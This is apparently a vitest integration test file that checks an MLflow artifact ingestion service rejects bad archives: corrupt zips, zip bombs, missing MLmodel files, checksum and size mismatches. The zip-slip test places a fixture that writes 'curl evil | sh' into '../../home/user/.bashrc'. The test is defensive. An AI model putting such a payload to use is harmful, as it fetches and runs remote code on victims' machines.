import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type MlflowZips,
  mlflowZips,
  newProjectAndExperiment,
  sha256Hex,
  uploadArtifact,
  waitForArtifact,
} from "../support/artifacts.ts";
import { s3ClientFor, startTestPlatform, type TestPlatform } from "../support/platform.ts";
import { buildZip, MINIMAL_MLMODEL } from "../support/zip-builder.ts";

let platform: TestPlatform;
let zips: MlflowZips;
beforeAll(async () => {
  [platform, zips] = await Promise.all([startTestPlatform(), mlflowZips()]);
}, 600_000);
afterAll(async () => {
  await platform?.stop();
});

/** Uploads bytes as a python/mlflow artifact and waits for ingestion's verdict. */
async function ingest(bytes: Buffer, options: { sha256?: string; sizeBytes?: number } = {}) {
  const { projectId, experimentId } = await newProjectAndExperiment(platform.api, "bad-archives");
  const { artifactId } = await uploadArtifact(platform.api, projectId, experimentId, bytes, options);
  const artifact = await waitForArtifact(platform.api, projectId, experimentId, artifactId);
  const experiment = await platform.api.call("GET", `/v1/projects/${projectId}/experiments/${experimentId}`);
  return { artifact, metadata: experiment.body.metadata };
}

describe("ingestion refuses bad archives with a reason a person can act on", () => {
  it("a corrupt archive (not a zip)", async () => {
    const { artifact, metadata } = await ingest(Buffer.from("PK\u0003\u0004 but then garbage ".repeat(50)));
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain("not a readable zip archive");
    expect(artifact.failureReason).toContain("zip -r");
    expect(metadata.input_schema).toBeUndefined();
  });

  it("a zip-slip entry", async () => {
    const { artifact } = await ingest(
      buildZip([
        { name: "MLmodel", data: Buffer.from(MINIMAL_MLMODEL) },
        { name: "../../home/user/.bashrc", data: Buffer.from("curl evil | sh") },
      ]),
    );
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain("'../../home/user/.bashrc'");
    expect(artifact.failureReason).toContain("zip-slip");
  });

  it("a zip bomb", async () => {
    const { artifact } = await ingest(
      buildZip([
        { name: "MLmodel", data: Buffer.from(MINIMAL_MLMODEL) },
        { name: "weights.bin", data: Buffer.alloc(16 * 1024 ** 2) },
      ]),
    );
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain("likely zip bomb");
    expect(artifact.failureReason).toContain("'weights.bin'");
  });

  it("a zip without MLmodel", async () => {
    const { artifact } = await ingest(buildZip([{ name: "model/model.pkl", data: Buffer.from("weights") }]));
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain("No MLmodel file in the zip");
    expect(artifact.failureReason).toContain("model/model.pkl");
  });

  it("a real MLflow model with a tensor-based signature", async () => {
    const { artifact, metadata } = await ingest(readFileSync(zips.tensor));
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain("tensor-based, which is unsupported for tabular deployment");
    expect(artifact.failureReason).toContain("column-based signature");
    expect(metadata.input_schema).toBeUndefined();
  });

  it("a checksum mismatch", async () => {
    const bytes = readFileSync(zips.column);
    const declared = sha256Hex(Buffer.from("some other file"));
    const { artifact, metadata } = await ingest(bytes, { sha256: declared });
    expect(artifact.status).toBe("FAILED");
    expect(artifact.failureReason).toContain(
      `Checksum mismatch: the uploaded bytes have SHA-256 ${sha256Hex(bytes)}`,
    );
    expect(artifact.failureReason).toContain(declared);
    expect(metadata.input_schema).toBeUndefined();
  });

  it("an object whose size differs from the declared size", async () => {
    const bytes = readFileSync(zips.column);
    const { projectId, experimentId } = await newProjectAndExperiment(platform.api, "bad-archives");
    const base = `/v1/projects/${projectId}/experiments/${experimentId}/artifacts`;
    const created = await platform.api.call("POST", base, {
      type: "python/mlflow",
      fileName: "model.zip",
      sizeBytes: bytes.length + 1,
    });
    expect(created.status).toBe(201);
    const { artifact, upload } = created.body;
    // The presigned PUT signs Content-Length: S3 refuses a body of another size outright.
    const refused = await fetch(upload.url, { method: "PUT", headers: upload.headers, body: bytes });
    expect(refused.status).toBe(403);
    // A principal that may write the bucket directly (on AWS: one of Byom's writer roles) is still
    // checked by ingestion, which compares the object's size with the declared one.
    const { PutObjectCommand } = await import("@aws-sdk/client-s3");
    const { config } = platform;
    const s3 = await s3ClientFor(config);
    try {
      const key = `artifacts/${projectId}/${experimentId}/${artifact.artifactId}`;
      await s3.send(new PutObjectCommand({ Bucket: config.bucket, Key: key, Body: bytes }));
    } finally {
      s3.destroy();
    }
    const ingested = await waitForArtifact(platform.api, projectId, experimentId, artifact.artifactId);
    expect(ingested.status).toBe("FAILED");
    expect(ingested.failureReason).toContain(
      `is ${bytes.length} bytes but the artifact was declared as ${bytes.length + 1}`,
    );
  });
});
